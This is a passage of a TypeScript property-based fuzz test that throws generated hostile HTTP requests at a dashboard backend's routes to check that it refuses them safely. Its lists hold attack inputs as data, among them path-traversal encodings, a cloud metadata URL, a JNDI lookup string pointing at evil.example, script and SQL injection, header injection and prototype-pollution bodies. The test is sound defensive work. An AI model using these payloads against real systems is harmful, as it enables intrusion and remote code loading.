/**
 * Hostile input (issue 5): a fast-check property throws generated requests at every BFF route —
 * each of the contract's 44 `/api/swr/:region/<path>` operations, the BFF's own API, `/auth/*`,
 * `/healthz` and `/readyz` — from demo users of every role (signed in, with the CSRF header) and
 * from strangers. Starting from a valid input (the operation table's), it mutates path segments
 * (traversal, `%2e%2e`, `%2F`, `%00`, double encoding, backslashes, unicode, huge), queries
 * (prototype keys, repeats, wrong types), bodies (prototype keys, wrong types, arrays for strings,
 * deep nesting, invalid JSON, oversize, compressed), content types and header values. For each
 * request:
 *
 * - no 5xx, except an upstream failure mapped to the BFF's error shape after a call reached SWR;
 * - when the contract refuses the input (judged with the contract's own matcher and schemas on
 *   the bytes sent), a 4xx and no request at the emulator (its request log, at the network edge);
 * - every error in the one shape `{code, message, requestId}`, with a code of the closed set and
 *   that code's status, and no AK, SK, signature or session id in any answer;
 * - afterwards the process still answers `/healthz`, `/readyz` and a signed-in read, logged no
 *   unexpected error and no secret, and `Object.prototype` is untouched.
 *
 * A second stack in header sign-in mode gets generated identity headers from its trusted proxy
 * (user, email and groups: unicode, huge, repeated, groups named `__proto__` or `constructor`).
 *
 * Replay a failure with HOSTILE_INPUT_SEED=<seed> (fast-check reports it); fuzz harder with
 * HOSTILE_INPUT_RUNS=<runs per route> (default 32).
 */
import { request, type IncomingHttpHeaders } from 'node:http';
import { gzipSync } from 'node:zlib';
import {
  buildPath,
  encodeQuery,
  formatQueryString,
  matchOperation,
  mergeQuery,
  operationNames,
  operations,
  parseQueryString,
  type OperationDefinition,
  type OperationName,
} from '@swr-dashboard/swr-client';
import { consoleKeyEnv, emulatorWithConsoleKey } from '@swr-dashboard/test-support';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cookieName } from '../src/auth/session';
import { ERROR_CODES } from '../src/http/errors';
import { sendOverSocket } from './support/guard-requests';
import { OPERATION_TABLE, type TableContext } from './support/operation-table';
import { startStack, type Browser, type Stack } from './support/stack';

const RUNS_PER_ROUTE = Number(process.env.HOSTILE_INPUT_RUNS ?? 32);
const seedFromEnv = process.env.HOSTILE_INPUT_SEED;
const fcOptions = seedFromEnv === undefined ? {} : { seed: Number(seedFromEnv) };

const SID_COOKIE = cookieName(false);
const REGION = 'cn-north-4';
const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE'];
/** Codes of an upstream failure the BFF maps; the only 5xx allowed, and only after a call. */
const UPSTREAM_FAILURES = new Set([
  'upstream_error',
  'upstream_invalid_response',
  'upstream_timeout',
  'outcome_unknown',
  'upstream_unavailable',
]);
/** Where the console may send a browser: a path of its own (not `//host` nor `/\host`). */
const SAME_ORIGIN_PATH = /^\/(?![/\\])/;
const ERROR_FIELDS = new Set(['code', 'message', 'requestId', 'upstream', 'issues', 'reason']);

// ---------------------------------------------------------------------------------------------
// Who sends: four signed-in demo users (one per role, one scoped), a scratch session for the
// sign-in routes (which end or replace the session they are sent with), a forged cookie, nobody.

const SIGNED_IN = {
  admin: 'ada-admin',
  operator: 'otto-operator',
  viewer: 'vera-viewer',
  scoped: 'pat-payments',
  scratch: 'otto-operator',
} as const;
type SignedInActor = keyof typeof SIGNED_IN;
type Actor = SignedInActor | 'forged' | 'anonymous';
/** Who sends valid API requests; strangers send the hostile ones. */
const SIGNED_IN_API: readonly Actor[] = ['admin', 'operator', 'viewer', 'scoped'];
const STRANGERS: readonly Actor[] = ['forged', 'anonymous'];
/** Who sends valid sign-in requests: the scratch session, or someone not signed in yet. */
const SIGN_IN_ACTORS: readonly Actor[] = ['scratch', 'anonymous'];
const FORGED_COOKIE = `${SID_COOKIE}=s%3Aforged-session-id.aW52YWxpZCBzaWduYXR1cmU`;

// ---------------------------------------------------------------------------------------------
// Hostile building blocks.

const TRAVERSAL = [
  '..',
  '.',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '..%2f',
  '%2f',
  '%2F',
  '..%2F..%2Fv3%2Fauth%2Ftokens',
  '%5c',
  '%5C..%5C',
  '\\',
  '..\\..\\',
  '%00',
  'a%00b',
  '%252e%252e%252f',
  '%25',
  '%',
  '%zz',
  '%e0%a4',
  '..%c0%af',
  '%c0%ae%c0%ae',
  '....//',
  '..;',
  ';',
  '$',
  '$..$..',
  'a/../b',
  '//',
  'http://169.254.169.254/latest/meta-data',
  '@evil.example',
];
const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString'];
const ODD_TEXT = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '0',
  '1e309',
  '0x10',
  '１２',
  '99999999999999999999999',
  '[object Object]',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u202egnp.exe',
  '😀',
  'ｐａｙｍｅｎｔｓ',
  'PAYMENTS',
  'payments\u0000',
  'İstanbul',
  '\ufeff',
  '\u0085',
  'Ω'.repeat(70),
  'payments\r\nX-Injected: 1',
];
const HOSTILE_TEXT = [...TRAVERSAL, ...PROTOTYPE_KEYS, ...ODD_TEXT];

/** Strings: the lists above, any code point (lone surrogates too), graphemes, long, numeric. */
const textArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('a', 'é', '😀', '../', '%2e', '\\'),
        fc.integer({ min: 256, max: 2400 }),
      )
      .map(([unit, bytes]) => unit.repeat(Math.ceil(bytes / Buffer.byteLength(unit)))),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(fc.integer(), fc.double(), fc.bigInt()).map((value) => String(value)),
  },
);

/** `encodeURIComponent`, or the text itself where that throws (lone surrogates). */
function encodeComponent(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return text;
  }
}

type Encoding = 'raw' | 'encoded' | 'double' | 'dollar';
function encodeAs(text: string, encoding: Encoding): string {
  switch (encoding) {
    case 'raw':
      return text;
    case 'encoded':
      return encodeComponent(text);
    case 'double':
      return encodeComponent(encodeComponent(text));
    case 'dollar':
      return encodeComponent(text.replaceAll('/', '$')).replaceAll('%24', '$');
  }
}
const encodingArb = fc.constantFrom<Encoding>('raw', 'encoded', 'double', 'dollar');
const hostileSegmentArb = fc
  .tuple(textArb, encodingArb)
  .map(([text, encoding]) => encodeAs(text, encoding));

function nestInArrays(value: unknown, depth: number): unknown {
  let nested = value;
  for (let level = 0; level < depth; level += 1) nested = [nested];
  return nested;
}

/** JSON values of the wrong type, prototype keys, arrays where strings go, deep, big. */
const hostileJsonArb: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e308, 2 ** 53 + 2, [], {}),
  },
  { weight: 3, arbitrary: textArb },
  { weight: 1, arbitrary: fc.array(textArb, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(...PROTOTYPE_KEYS)
      .map(
        (key) => JSON.parse(`{"${key}":{"isAdmin":true,"prototype":{"isAdmin":true}}}`) as unknown,
      ),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 20, max: 3000 }).map((depth) => nestInArrays('x', depth)),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 101, max: 1500 })
      .map((count) => Array.from({ length: count }, () => '0123456789abcdef0123456789abcdef')),
  },
);

// ---------------------------------------------------------------------------------------------
// Mutating a valid JSON body: replace a value, add a (prototype) key, wrap in an array, nest
// deeply, drop a key. Keys are always defined as own properties, never through `__proto__`'s
// setter, exactly as JSON.parse (the BFF's body parser) would produce them.

type JsonPath = (string | number)[];

/** Every position in a JSON value (the root is `[]`), down to a depth of 64. */
function pathsIn(root: unknown): JsonPath[] {
  const paths: JsonPath[] = [];
  const pending: { value: unknown; at: JsonPath }[] = [{ value: root, at: [] }];
  for (let next = pending.pop(); next !== undefined; next = pending.pop()) {
    const { value, at } = next;
    paths.push(at);
    if (at.length >= 64 || typeof value !== 'object' || value === null) continue;
    const entries: [string | number, unknown][] = Array.isArray(value)
      ? value.map((item, index): [number, unknown] => [index, item])
      : Object.entries(value);
    for (const [key, item] of entries) pending.push({ value: item, at: [...at, key] });
  }
  return paths;
}

function child(value: unknown, key: string | number): unknown {
  if (typeof value !== 'object' || value === null) return undefined;
  return Object.getOwnPropertyDescriptor(value, key)?.value as unknown;
}

function defineKey(target: object, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
}

/** `root` with the value at `path` replaced by `change(old)`, or removed when it returns a symbol. */
const REMOVE = Symbol('remove');
function updateAt(root: unknown, path: JsonPath, change: (old: unknown) => unknown): unknown {
  if (path.length === 0) return change(root);
  const parentPath = path.slice(0, -1);
  const key = path[path.length - 1] ?? 0;
  let parent: unknown = root;
  for (const step of parentPath) parent = child(parent, step);
  if (typeof parent !== 'object' || parent === null) return root;
  const next = change(child(parent, key));
  if (next !== REMOVE) defineKey(parent, key, next);
  else if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
  else Reflect.deleteProperty(parent, key);
  return root;
}

interface JsonMutation {
  kind: 'replace' | 'addKey' | 'wrap' | 'deepen' | 'drop';
  where: number;
  key: string;
  value: unknown;
}

const mutationArb: fc.Arbitrary<JsonMutation> = fc.record({
  kind: fc.constantFrom<JsonMutation['kind']>('replace', 'addKey', 'wrap', 'deepen', 'drop'),
  where: fc.nat(),
  key: fc.constantFrom(...PROTOTYPE_KEYS, 'extra', 'isAdmin', '', 'ｎａｍｅ', 'namespace '),
  value: hostileJsonArb,
});

function mutate(value: unknown, mutation: JsonMutation): unknown {
  const paths = pathsIn(value);
  const path = paths[mutation.where % paths.length] ?? [];
  switch (mutation.kind) {
    case 'replace':
      return updateAt(value, path, () => mutation.value);
    case 'wrap':
      return updateAt(value, path, (old) => [old]);
    case 'deepen':
      return updateAt(value, path, (old) => nestInArrays(old, 200));
    case 'drop':
      return path.length === 0 ? value : updateAt(value, path, () => REMOVE);
    case 'addKey': {
      const objects = paths.filter((candidate) => {
        let node: unknown = value;
        for (const step of candidate) node = child(node, step);
        return typeof node === 'object' && node !== null && !Array.isArray(node);
      });
      const target = objects[mutation.where % Math.max(objects.length, 1)];
      if (target === undefined) {
        const wrapper = {};
        defineKey(wrapper, mutation.key, mutation.value);
        return wrapper;
      }
      return updateAt(value, target, (old) => {
        defineKey(old as object, mutation.key, mutation.value);
        return old;
      });
    }
  }
}

function mutatedJsonArb(valid: unknown): fc.Arbitrary<unknown> {
  return fc
    .array(mutationArb, { minLength: 1, maxLength: 3 })
    .map((mutations) =>
      mutations.reduce<unknown>(
        (value, mutation) => mutate(value, mutation),
        JSON.parse(JSON.stringify(valid)),
      ),
    );
}

// ---------------------------------------------------------------------------------------------
// Bodies, content types and encodings.

const BAD_JSON = [
  '{',
  '}',
  '[',
  '{"a":',
  '{"a":1,}',
  "{'namespace':'x'}",
  'NaN',
  'Infinity',
  'undefined',
  '\u0000',
  '{"a":1}{"b":2}',
  '\ufeff{"namespace":"bom"}',
  '{"namespace":"a","namespace":"b"}',
  'nul',
  '01',
  '"\\ud800"',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  'namespace=x&__proto__[isAdmin]=1',
  '<?xml version="1.0"?><namespace>x</namespace>',
  '   ',
];
const badBodyTextArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...BAD_JSON) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(500, 5_000, 20_000, 40_000)
      .map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(500, 5_000, 12_000)
      .map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 65 * 1024, max: 160 * 1024 })
      .map((bytes) => JSON.stringify({ namespace: 'a'.repeat(bytes) })),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
);

const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/json;charset=latin1',
  'application/json; charset=utf-16',
  'application/json; charset=utf-999',
  'application/json, text/plain',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----hostile',
  'application/xml',
  'application/merge-patch+json',
  'application/vnd.api+json',
  '*/*',
  'json',
  '',
  'application/jsonp',
];
const contentTypeArb = fc.oneof(
  { weight: 8, arbitrary: fc.constant<string | null>('application/json') },
  { weight: 2, arbitrary: fc.constantFrom<string | null>(...CONTENT_TYPES, null) },
);

/** How the body bytes are encoded on the wire (`gzip-real`: really gzip, else garbage). */
type BodyEncoding = 'gzip' | 'gzip-real' | 'deflate' | 'br' | 'identity' | 'x-unknown';
interface BodySpec {
  text: string;
  /** How the text becomes bytes: UTF-8, or bytes that are not UTF-8 at all. */
  charset: 'utf8' | 'latin1' | 'utf16le';
  contentType: string | null;
  encoding: BodyEncoding | null;
  chunked: boolean;
}

/** The body of a valid request: the table's JSON (plain or chunked), or none. */
function validBodyArb(valid: unknown): fc.Arbitrary<BodySpec | undefined> {
  if (valid === undefined) return fc.constant(undefined);
  return fc.record({
    text: fc.constant(JSON.stringify(valid)),
    charset: fc.constant('utf8' as const),
    contentType: fc.constantFrom<string | null>(
      'application/json',
      'application/json; charset=utf-8',
    ),
    encoding: fc.constantFrom<BodyEncoding | null>(null, null, null, 'gzip-real', 'identity'),
    chunked: fc.boolean(),
  });
}

/** A body that is wrong somehow: its JSON, its bytes, its type, its encoding, or being there. */
function hostileBodyArb(valid: unknown): fc.Arbitrary<BodySpec | undefined> {
  const takesBody = valid !== undefined;
  const text = takesBody
    ? fc.oneof(
        { weight: 1, arbitrary: fc.constant(JSON.stringify(valid)) },
        { weight: 5, arbitrary: mutatedJsonArb(valid).map((value) => JSON.stringify(value)) },
        { weight: 2, arbitrary: hostileJsonArb.map((value) => JSON.stringify(value)) },
        { weight: 2, arbitrary: badBodyTextArb },
        { weight: 1, arbitrary: fc.constant('') },
      )
    : fc.oneof(
        { weight: 2, arbitrary: hostileJsonArb.map((value) => JSON.stringify(value)) },
        { weight: 1, arbitrary: badBodyTextArb },
        { weight: 1, arbitrary: fc.constantFrom('{}', '[]', 'null', '""', '0', '') },
      );
  const spec: fc.Arbitrary<BodySpec> = fc.record({
    text,
    charset: fc.constantFrom<BodySpec['charset']>(
      'utf8',
      'utf8',
      'utf8',
      'utf8',
      'latin1',
      'utf16le',
    ),
    contentType: contentTypeArb,
    encoding: fc.oneof(
      { weight: 8, arbitrary: fc.constant(null) },
      {
        weight: 1,
        arbitrary: fc.constantFrom<BodyEncoding>(
          'gzip',
          'gzip-real',
          'deflate',
          'br',
          'identity',
          'x-unknown',
        ),
      },
    ),
    chunked: fc.oneof({ weight: 4, arbitrary: fc.constant(false) }, fc.constant(true)),
  });
  return takesBody
    ? fc.oneof({ weight: 1, arbitrary: fc.constant(undefined) }, { weight: 8, arbitrary: spec })
    : spec;
}

// ---------------------------------------------------------------------------------------------
// Queries: the valid one, with hostile pairs added or a value replaced, or garbage.

type Pair = readonly [string, string];

function joinQuery(parts: string[]): string {
  const text = parts.filter((part) => part !== '').join('&');
  return text === '' ? '' : `?${text}`;
}

/** The query of a valid request (`?` and the pairs, or nothing). */
function validQuery(valid: readonly Pair[]): string {
  return joinQuery([formatQueryString(valid)]);
}

function hostileQueryArb(keys: readonly string[], valid: readonly Pair[]): fc.Arbitrary<string> {
  const allKeys = [...keys, ...PROTOTYPE_KEYS, 'filter', 'limit', 'a[b]', 'a[]', '', '%00'];
  const pairArb = fc
    .tuple(fc.constantFrom(...allKeys), textArb, fc.boolean())
    .map(([key, value, encode]) =>
      encode ? `${key}=${encodeComponent(value)}` : `${key}=${value}`,
    );
  const validText = formatQueryString(valid);
  const replaced =
    valid.length === 0
      ? fc.constant(validText)
      : fc
          .tuple(fc.nat(), textArb, fc.boolean())
          .map(([where, value, encode]) =>
            valid
              .map(([key, old], index) =>
                index === where % valid.length
                  ? `${key}=${encode ? encodeComponent(value) : value}`
                  : formatQueryString([[key, old]]),
              )
              .join('&'),
          );
  return fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .array(pairArb, { minLength: 1, maxLength: 3 })
        .map((pairs) => joinQuery([validText, ...pairs])),
    },
    { weight: 3, arbitrary: replaced.map((text) => joinQuery([text])) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '?',
        '?&&',
        '?=',
        '?%',
        '?a=%zz',
        '?%00=%00',
        '?limit=1&limit=2&offset=0&offset=1',
        '?__proto__[isAdmin]=1',
        '?constructor[prototype][isAdmin]=1',
        '?filter=namespace::a|namespace::b',
        '?filter=::|::',
        `?${'x=1&'.repeat(400)}`,
      ),
    },
  );
}

// ---------------------------------------------------------------------------------------------
// Header tweaks on top of what the signed-in browser sends.

type HeaderValue = string | string[] | null;
interface HeaderTweak {
  /** A header name; `cookie+` appends to the actor's cookie. */
  name: string;
  value: HeaderValue;
}

function tweakArb(origin: string): fc.Arbitrary<HeaderTweak> {
  const free = fc.oneof({ weight: 3, arbitrary: textArb }, fc.constantFrom(...TRAVERSAL));
  return fc.oneof(
    fc.record({
      name: fc.constant('x-csrf'),
      value: fc.constantFrom<HeaderValue>(null, '0', '', 'true', '%31', '１', ['1', '1']),
    }),
    fc.record({
      name: fc.constant('origin'),
      value: fc.constantFrom<HeaderValue>(
        null,
        'null',
        'http://evil.example',
        `${origin}/`,
        origin.toUpperCase(),
        `${origin}.evil.example`,
        'file://',
        [origin, 'http://evil.example'],
      ),
    }),
    fc.record({
      name: fc.constant('cookie+'),
      value: fc.oneof(
        fc.constantFrom(
          `${SID_COOKIE}=garbage`,
          FORGED_COOKIE,
          `${SID_COOKIE}=%E0%A4%A`,
          '__proto__=1',
          'constructor=x',
        ),
        textArb,
      ),
    }),
    fc.record({
      name: fc.constant('cookie'),
      value: fc.constantFrom<HeaderValue>(null, '=', ';;'),
    }),
    fc.record({
      name: fc.constantFrom(
        'sec-fetch-site',
        'x-request-id',
        'x-forwarded-for',
        'x-forwarded-host',
        'x-forwarded-proto',
        'forwarded',
        'x-forwarded-user',
        'x-forwarded-email',
        'x-forwarded-groups',
        'authorization',
        'user-agent',
        'accept',
        'accept-language',
        'accept-encoding',
        'x-http-method-override',
        'host',
        'range',
        'if-none-match',
        'referer',
        'x-real-ip',
        'content-language',
        'x-project-id',
        'x-sdk-date',
      ),
      value: free,
    }),
  );
}

// ---------------------------------------------------------------------------------------------
// Requests, and sending them exactly as generated.

interface HostileRequest {
  actor: Actor;
  method: string;
  /** Path and query as text; sent as its UTF-8 bytes. */
  target: string;
  body: BodySpec | undefined;
  tweaks: HeaderTweak[];
}

interface Wire {
  method: string;
  /** The request target as node:http writes it (one char per byte). */
  target: string;
  headers: Record<string, string | string[]>;
  body: Buffer | undefined;
  /** The JSON value the body holds after decoding, or `invalid` when it holds none. */
  bodyValue: { ok: true; value: unknown } | { ok: false };
}

interface Reply {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
  json: unknown;
}

/**
 * The request target a browser sends for `text`: its UTF-8 bytes, with control, space and
 * non-ASCII bytes percent-encoded (raw ones never reach the BFF: node's parser refuses them, see
 * the last test). Everything else, `%`, backslashes and `..` included, goes as it is.
 */
function wirePath(text: string): string {
  return Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(
      /[^\u0021-\u007e]/g,
      (char) => `%${char.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`,
    );
}

/** The UTF-8 bytes of `text`, one char per byte; control bytes (but tab) as `?` (headers). */
function wireHeader(text: string): string {
  return Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '?');
}

function parseJson(text: string): { ok: true; value: unknown } | { ok: false } {
  try {
    return { ok: true, value: JSON.parse(text) as unknown };
  } catch {
    return { ok: false };
  }
}

/**
 * The JSON a body holds as a UTF-8 JSON text: invalid bytes read as U+FFFD, and a leading BOM
 * ignored (RFC 8259 lets a parser do so, and the BFF's does).
 */
function jsonOf(bytes: Buffer): Wire['bodyValue'] {
  if (bytes.length === 0) return { ok: true, value: undefined };
  const text = bytes.toString('utf8');
  return parseJson(text.startsWith('\ufeff') ? text.slice(1) : text);
}

function bodyBytes(spec: BodySpec): { bytes: Buffer; value: Wire['bodyValue'] } {
  const plain = Buffer.from(spec.text, spec.charset);
  const parsed = jsonOf(plain);
  switch (spec.encoding) {
    case null:
    case 'identity':
      return { bytes: plain, value: parsed };
    case 'gzip-real':
      return { bytes: gzipSync(plain), value: parsed };
    default:
      // Garbage in a compression format, or an unknown coding: no JSON value at all.
      return { bytes: plain, value: { ok: false } };
  }
}

function toWire(input: HostileRequest, origin: string, cookies: Map<Actor, string>): Wire {
  const headers = new Map<string, string | string[]>();
  const cookie = cookies.get(input.actor);
  if (cookie !== undefined) headers.set('cookie', cookie);
  headers.set('x-csrf', '1');
  if (!['GET', 'HEAD', 'OPTIONS'].includes(input.method)) headers.set('origin', origin);
  let body: Buffer | undefined;
  let bodyValue: Wire['bodyValue'] = { ok: true, value: undefined };
  if (input.body !== undefined) {
    const encoded = bodyBytes(input.body);
    body = encoded.bytes;
    bodyValue = encoded.value;
    if (input.body.contentType !== null) headers.set('content-type', input.body.contentType);
    if (input.body.encoding !== null) {
      headers.set('content-encoding', input.body.encoding.replace('-real', ''));
    }
    if (input.body.chunked) headers.set('transfer-encoding', 'chunked');
    else headers.set('content-length', String(body.length));
  }
  for (const tweak of input.tweaks) {
    if (tweak.name === 'cookie+') {
      const extra = typeof tweak.value === 'string' ? tweak.value : '';
      const current = headers.get('cookie');
      headers.set('cookie', typeof current === 'string' ? `${current}; ${extra}` : extra);
    } else if (tweak.value === null) {
      headers.delete(tweak.name);
    } else {
      headers.set(tweak.name, tweak.value);
    }
  }
  const sanitized: Record<string, string | string[]> = {};
  for (const [name, value] of headers) {
    sanitized[name] = Array.isArray(value) ? value.map(wireHeader) : wireHeader(value);
  }
  return {
    method: input.method,
    target: wirePath(input.target),
    headers: sanitized,
    body,
    bodyValue,
  };
}

/** Bytes of the request line and headers, against node's 16 KB header limit. */
function headSize(wire: Wire): number {
  let size = wire.target.length + 32;
  for (const [name, value] of Object.entries(wire.headers)) {
    size += name.length + 4 + (Array.isArray(value) ? value.join('').length + 8 : value.length);
  }
  return size;
}

function send(origin: string, wire: Wire): Promise<Reply> {
  const url = new URL(origin);
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = request(
      {
        host: url.hostname,
        port: url.port,
        method: wire.method,
        path: wire.target,
        headers: wire.headers,
        agent: false,
      },
      (res) => {
        answered = true;
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => {
          chunks.push(chunk);
        });
        res.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          const json = parseJson(text);
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            text,
            json: json.ok ? json.value : undefined,
          });
        });
        res.on('error', reject);
      },
    );
    // An answer before the whole body was written (413) may end the connection under the writer.
    req.on('error', (error) => {
      if (!answered) reject(error);
    });
    if (wire.body !== undefined && wire.body.length > 0) req.write(wire.body);
    req.end();
  });
}

/** A request without a body, with exactly these headers. */
function bodiless(method: string, target: string, headers: Record<string, string> = {}): Wire {
  return { method, target, headers, body: undefined, bodyValue: { ok: true, value: undefined } };
}

// ---------------------------------------------------------------------------------------------
// What the contract says about the bytes sent: the oracle for "nothing sent upstream".

const PROXY_PREFIX = '/api/swr/';

/** The operation the contract accepts this request as (as the BFF received it), if any. */
function acceptedOperation(wire: Wire, regions: ReadonlySet<string>): OperationName | undefined {
  const at = wire.target.indexOf('?');
  const path = at < 0 ? wire.target : wire.target.slice(0, at);
  const rawQuery = at < 0 ? '' : wire.target.slice(at + 1);
  if (!path.startsWith(PROXY_PREFIX)) return undefined;
  const rest = path.slice(PROXY_PREFIX.length);
  const slash = rest.indexOf('/');
  if (!regions.has(slash < 0 ? rest : rest.slice(0, slash))) return undefined;
  const match = matchOperation(wire.method, slash < 0 ? '/' : rest.slice(slash));
  if (!match.ok) return undefined;
  const definition: OperationDefinition = operations[match.name];
  if (!definition.params.safeParse(match.params).success) return undefined;
  const pairs = parseQueryString(rawQuery);
  if (pairs === undefined) return undefined;
  const merged = mergeQuery(definition, pairs);
  if (!merged.ok || !definition.query.safeParse(merged.query).success) return undefined;
  if (!wire.bodyValue.ok) return undefined;
  const body = wire.bodyValue.value;
  const bodyOk =
    definition.body === undefined ? body === undefined : definition.body.safeParse(body).success;
  return bodyOk ? match.name : undefined;
}

/** `/readyz` (routes match exactly: case and trailing slash) is the other route that calls SWR. */
function isReadyz(wire: Wire): boolean {
  const path = wire.target.split('?')[0] ?? '';
  return path === '/readyz' && ['GET', 'HEAD'].includes(wire.method);
}

// ---------------------------------------------------------------------------------------------
// Routes, derived from the contract (the 44 operations) plus the BFF's own.

const TABLE_CONTEXT: TableContext = {
  who: 'hostile',
  seeded: { retentionId: 1 },
  spareTag: 'v1',
  created: {},
};

interface ValidInput {
  params?: Record<string, string | number>;
  query?: Record<string, unknown>;
  body?: unknown;
}

function validInputOf(name: OperationName): ValidInput {
  const step = OPERATION_TABLE.find((entry) => entry.name === name);
  if (step === undefined) throw new Error(`the operation table has no input for ${name}`);
  return step.input(TABLE_CONTEXT) as ValidInput;
}

/**
 * A request is made of parts, each with a valid and a hostile version. A generated request is
 * the valid one (the operation table's input, from a signed-in user) with 0 to 3 parts hostile,
 * so most refusals have one cause and some requests are entirely valid and reach SWR.
 */
interface Parts {
  actor: Actor;
  method: string;
  region: string;
  path: string;
  query: string;
  body: BodySpec | undefined;
  tweaks: HeaderTweak[];
}
type Part = keyof Parts;
type Versions = { [P in Part]: { valid: fc.Arbitrary<Parts[P]>; hostile: fc.Arbitrary<Parts[P]> } };

function requestArb(
  versions: Versions,
  parts: readonly Part[],
  target: (parts: Parts) => string,
): fc.Arbitrary<HostileRequest> {
  const hostileParts = fc.oneof(
    { weight: 1, arbitrary: fc.constant<Part[]>([]) },
    { weight: 3, arbitrary: fc.subarray([...parts], { minLength: 1, maxLength: 1 }) },
    { weight: 2, arbitrary: fc.subarray([...parts], { minLength: 2, maxLength: 3 }) },
  );
  return hostileParts
    .chain((hostile) => {
      const pick = <P extends Part>(part: P): fc.Arbitrary<Parts[P]> =>
        hostile.includes(part) ? versions[part].hostile : versions[part].valid;
      return fc.record({
        actor: pick('actor'),
        method: pick('method'),
        region: pick('region'),
        path: pick('path'),
        query: pick('query'),
        body: pick('body'),
        tweaks: pick('tweaks'),
      });
    })
    .map((made) => ({
      actor: made.actor,
      method: made.method,
      target: target(made),
      body: made.body,
      tweaks: made.tweaks,
    }));
}

function otherMethodArb(usual: string): fc.Arbitrary<string> {
  return fc.constantFrom(...METHODS.filter((method) => method !== usual));
}

function hostileLiteralArb(literal: string): fc.Arbitrary<string> {
  return fc.constantFrom(
    literal.toUpperCase(),
    literal.replace(/[a-z0-9_]/g, (char) => `%${char.charCodeAt(0).toString(16)}`),
    `${literal}%00`,
    `${literal}%2f..`,
    `${literal}\\`,
    `.${literal}`,
    `${literal};x=1`,
    '..',
    '%2e%2e',
  );
}

const hostileTailArb = fc.oneof(
  { weight: 4, arbitrary: fc.constant('') },
  fc.constantFrom('/', '//', '/..', '/.', '/extra', '/%2e%2e', '/%2F', ';', '\\', '/..\\..'),
);

function swrRequestArb(
  name: OperationName,
  origin: string,
  regions: readonly string[],
): fc.Arbitrary<HostileRequest> {
  const definition = operations[name];
  const input = validInputOf(name);
  const template = definition.path === '/' ? [] : definition.path.split('/').slice(1);
  const validSegments: string[] = [];
  const hostileSegments = template.map((part) => {
    const param = /^\{(\w+)\}$/.exec(part)?.[1];
    if (param === undefined) {
      validSegments.push(part);
      return fc.oneof({ weight: 6, arbitrary: fc.constant(part) }, hostileLiteralArb(part));
    }
    const value = input.params?.[param];
    if (value === undefined) throw new Error(`${name}: the table gives no ${param}`);
    const valid = buildPath(`{${param}}`, { [param]: value });
    validSegments.push(valid);
    return fc.oneof(
      { weight: 1, arbitrary: fc.constant(valid) },
      { weight: 2, arbitrary: hostileSegmentArb },
    );
  });
  const validPairs = encodeQuery(definition, input.query);
  const versions: Versions = {
    actor: { valid: fc.constantFrom(...SIGNED_IN_API), hostile: fc.constantFrom(...STRANGERS) },
    method: { valid: fc.constant(definition.method), hostile: otherMethodArb(definition.method) },
    region: { valid: fc.constantFrom(...regions), hostile: hostileSegmentArb },
    path: {
      valid: fc.constant(validSegments.join('/')),
      hostile: fc
        .tuple(fc.tuple(...hostileSegments), hostileTailArb)
        .map(([segments, tail]) => `${segments.join('/')}${tail}`),
    },
    query: {
      valid: fc.constant(validQuery(validPairs)),
      hostile: hostileQueryArb(Object.keys(definition.query.shape), validPairs),
    },
    body: { valid: validBodyArb(input.body), hostile: hostileBodyArb(input.body) },
    tweaks: {
      valid: fc.constant([]),
      hostile: fc.array(tweakArb(origin), { minLength: 1, maxLength: 3 }),
    },
  };
  return requestArb(
    versions,
    ['actor', 'method', 'region', 'path', 'query', 'body', 'tweaks'],
    (parts) => `${PROXY_PREFIX}${parts.region}/${parts.path}${parts.query}`,
  );
}

interface BffRoute {
  method: string;
  path: string;
